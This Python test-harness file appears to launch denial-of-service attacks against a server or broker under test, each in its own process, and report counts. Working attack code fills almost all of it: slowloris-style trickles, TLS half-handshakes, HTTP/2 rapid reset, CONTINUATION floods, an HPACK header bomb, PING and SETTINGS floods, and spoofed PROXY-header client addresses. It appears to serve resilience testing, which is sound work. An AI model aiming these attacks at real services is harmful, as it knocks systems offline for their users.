"""Attackers. Each is a process of its own, beside the well-behaved client's, and says at its end what it has done.

    attacks.py NAME JSON

JSON: `address` and `path` of the target, `tls` and `proxy` (it has TLS; it takes PROXY headers), `seconds`, `count`
(connections at once) and `seed` (which addresses the attacker claims to have).
"""

import collections
import json
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time

import support

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CONNECTIONS_OF_AN_ADDRESS = 200  # below ingest.connections_per_address_max
THREADS = 4
IP_BIND_ADDRESS_NO_PORT = 24  # Linux
GIVEN_UP_SECONDS = 2.0  # how long an attacker waits for a peer that takes nothing more


class Target:
    """Where the attack goes, and what is counted on the way."""

    def __init__(self, address, path, tls, proxy, seconds, count, seed):
        self.address, self.path, self.proxy, self.count, self.seed = tuple(address), path, proxy, count, seed
        self.deadline = time.monotonic() + seconds
        self.done = collections.Counter()
        self.tls = None
        if tls:
            self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            self.tls.check_hostname, self.tls.verify_mode = False, ssl.CERT_NONE
            self.tls.set_alpn_protocols([tls])

    def goes_on(self):
        return time.monotonic() < self.deadline

    def connect(self, number, receive_bytes=None):
        """A TCP connection by one of the attacker's addresses."""
        raw = socket.socket()
        if receive_bytes:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        raw.settimeout(GIVEN_UP_SECONDS)
        # From addresses of their own, so that attackers do not use up the well-behaved client's ports.
        raw.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        raw.bind((f"127.0.1.{self.seed + 1}", 0))
        raw.connect(self.address)
        self.done["connections"] += 1
        if self.proxy:
            client = self.seed * 5_000 + number // CONNECTIONS_OF_AN_ADDRESS
            raw.sendall(proxy_header(f"198.18.{client // 250 % 250}.{client % 250}"))
        return raw

    def open(self, number, receive_bytes=None):
        """A connection that can be spoken on."""
        raw = self.connect(number, receive_bytes)
        return self.tls.wrap_socket(raw) if self.tls else raw

    def in_threads(self, attack):
        """Runs `attack(number)` again and again, in some threads; its connection may be closed at any time."""

        def again(number):
            while self.goes_on():
                try:
                    attack(number)
                except OSError as error:
                    self.done["timed out" if isinstance(error, TimeoutError) else "cut off"] += 1

        threads = [threading.Thread(target=again, args=[number], daemon=True) for number in range(THREADS)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(max(0, self.deadline + GIVEN_UP_SECONDS - time.monotonic()))


def proxy_header(client):
    return f"PROXY TCP4 {client} 192.0.2.1 4711 443\r\n".encode()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value, indexed=False):
    """A header as HPACK spells it without Huffman; a name by its index in the static table, or as text."""
    text = b"" if isinstance(name, int) else length(len(name), 7) + name
    first = name if isinstance(name, int) else 0
    return length(first, 6 if indexed else 4, 0x40 if indexed else 0) + text + length(len(value), 7) + value


def length(number, bits, first=0):
    limit = (1 << bits) - 1
    if number < limit:
        return bytes([first | number])
    number -= limit
    rest = []
    while number >= 128:
        rest.append(number % 128 | 128)
        number //= 128
    return bytes([first | limit, *rest, number])


def head(target):
    """POST of a callback, or a call."""
    scheme = b"\x87" if target.tls else b"\x86"
    grpc = literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
    return b"\x83" + scheme + literal(4, target.path.encode()) + literal(1, b"test") + grpc


def idle(target, hello=b""):
    """As many connections as are wanted, which say nothing, or begin to say something."""
    poll, open_connections, number = select.poll(), {}, 0
    while target.goes_on():
        while len(open_connections) < target.count and target.goes_on():
            try:
                connection = target.connect(number)
                number += 1
                connection.sendall(hello)
            except OSError:
                target.done["cut off"] += 1
                break
            open_connections[connection.fileno()] = connection
            poll.register(connection, select.POLLIN | select.POLLHUP)
        target.done["at once"] = max(target.done["at once"], len(open_connections))
        for descriptor, _ in poll.poll(20):
            connection = open_connections[descriptor]
            try:
                gone = not connection.recv(65536)
            except OSError:
                gone = True
            if gone:
                target.done["closed by the broker"] += 1
                poll.unregister(descriptor)
                open_connections.pop(descriptor).close()


def one_address(target):
    """All of them from one address: it gets its share, and the rest is closed."""
    target.connect = lambda number, connect=target.connect: connect(0)
    idle(target)


def client_hello(target):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    handshake = target.tls.wrap_bio(incoming, outgoing, server_hostname=support.SERVER_NAME)
    try:
        handshake.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


def half_hello(target):
    hello = client_hello(target)
    idle(target, hello[: len(hello) // 2])


def half_handshake(target):
    idle(target, client_hello(target))


def trickle(target, opening, piece, pause=0.5):
    """Requests that begin, and then come by a few bytes at a time."""

    def attack(number):
        begin = number * (target.count // THREADS)
        connections = [target.open(begin + one) for one in range(target.count // THREADS)]
        for connection in connections:
            connection.sendall(opening)
        target.done["at once"] += len(connections)
        while target.goes_on() and connections:
            for connection in list(connections):
                try:
                    connection.sendall(piece)
                except OSError:
                    target.done["cut off"] += 1
                    connections.remove(connection)
            time.sleep(pause)

    target.in_threads(attack)


def slow_headers(target):
    trickle(target, f"POST {target.path} HTTP/1.1\r\nhost: x\r\n".encode(), b"x: y\r\n")


def slow_bodies(target):
    trickle(target, f"POST {target.path} HTTP/1.1\r\nhost: x\r\ncontent-length: 1000000\r\n\r\n".encode(), b"{{{{")


def hoard(target):
    """Bodies that are sent but for their last byte."""
    size = 1024 * 1024
    opening = f"POST {target.path} HTTP/1.1\r\nhost: x\r\ncontent-length: {size}\r\n\r\n".encode()
    trickle(target, opening + b"x" * (size - 1), b"")


def unread(target):
    """Requests without an end, whose answers nobody reads."""
    requests = f"GET {target.path} HTTP/1.1\r\nhost: x\r\n\r\n".encode() * 500

    def attack(number):
        connections = [target.open(number * 50 + one, receive_bytes=2048) for one in range(50)]
        target.done["at once"] += len(connections)
        for connection in connections:
            connection.settimeout(0.01)
        while target.goes_on() and connections:
            for connection in list(connections):
                try:
                    connection.sendall(requests)
                except TimeoutError:
                    pass  # the broker has stopped to read
                except OSError:
                    target.done["cut off"] += 1
                    connections.remove(connection)

    target.in_threads(attack)


def frames(target, make, settings=b"", reads=True):
    """HTTP/2 connections that send what `make(stream)` says, as fast as it is taken, for each next stream."""

    def attack(number):
        connection = target.open(number)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        stream = 1
        while target.goes_on():
            sent, stream = make(stream)
            connection.settimeout(GIVEN_UP_SECONDS)
            connection.sendall(sent)
            target.done["MiB"] += len(sent)
            connection.settimeout(0)
            while reads:
                try:
                    if not connection.recv(65536):
                        raise ConnectionResetError
                except (ssl.SSLWantReadError, BlockingIOError):
                    break

    target.in_threads(attack)
    target.done["MiB"] = round(target.done["MiB"] / 1024 / 1024)


def streams(one, count=100):
    """For each of some streams, what `one` makes of it."""
    return lambda stream: (b"".join(one(stream + 2 * number) for number in range(count)), stream + 2 * count)


def rapid_reset(target):
    block, cancel = head(target), struct.pack(">I", 8)
    frames(
        target,
        streams(lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)),
    )


def made_to_reset(target):
    """Each request has a mistake, so that it is the broker who resets it."""
    block, nothing = head(target), struct.pack(">I", 0)
    broken = lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, nothing)
    frames(target, streams(broken))


def unfinished(target):
    """Requests that never end, as many as may be open."""
    block = head(target)

    def make(stream):
        time.sleep(0.05)
        return streams(lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"{"))(stream)

    frames(target, make)


def never_taken(target):
    """Requests whose answers have no room to be sent."""
    no_window, block = struct.pack(">HI", 4, 0), head(target)

    def make(stream):
        time.sleep(0.05)
        return streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block))(stream)

    frames(target, make, settings=no_window)


def repeated(sent, reads=True):
    return lambda target: frames(target, lambda stream: (sent, stream), reads=reads)


def continuation(target, piece=b""):
    begin = frame(HEADERS, 0, 1, head(target))
    frames(
        target, lambda stream: ((begin if stream == 1 else b"") + frame(CONTINUATION, 0, 1, piece) * 1_000, stream + 2)
    )


def continuation_full(target):
    continuation(target, literal(b"x", b"y" * 4_000) * 4)


def empty_data(target):
    begin, data = frame(HEADERS, END_HEADERS, 1, head(target)), frame(DATA, 0, 1) * 2_000
    frames(target, lambda stream: ((begin if stream == 1 else b"") + data, stream + 2))


def header_bomb(target):
    """A header that is sent once, and then named thousands of times in each request."""
    bomb = literal(b"x", b"y" * 4_000, indexed=True)
    block = head(target) + b"\xbe" * 12_000  # the newest entry of the dynamic table
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, head(target) + bomb)
    one = lambda stream: first if stream == 1 else frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
    frames(target, streams(one, 10))


ATTACKS = {
    "idle": idle,
    "one_address": one_address,
    "half_hello": half_hello,
    "half_handshake": half_handshake,
    "slow_headers": slow_headers,
    "slow_bodies": slow_bodies,
    "hoard": hoard,
    "unread": unread,
    "rapid_reset": rapid_reset,
    "made_to_reset": made_to_reset,
    "unfinished": unfinished,
    "never_taken": never_taken,
    "continuation": continuation,
    "continuation_full": continuation_full,
    "header_bomb": header_bomb,
    "ping": repeated(frame(PING, 0, 0, b"12345678") * 2_000),
    "ping_unread": repeated(frame(PING, 0, 0, b"12345678") * 2_000, reads=False),
    "settings": repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 2_000),
    "empty_data": empty_data,
    "priority": repeated(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1)) * 2_000),
}

if __name__ == "__main__":
    support.allow_open_files()
    aim = Target(**json.loads(sys.argv[2]))
    ATTACKS[sys.argv[1]](aim)
    print(json.dumps(aim.done), flush=True)
    os._exit(0)  # with whatever is still open
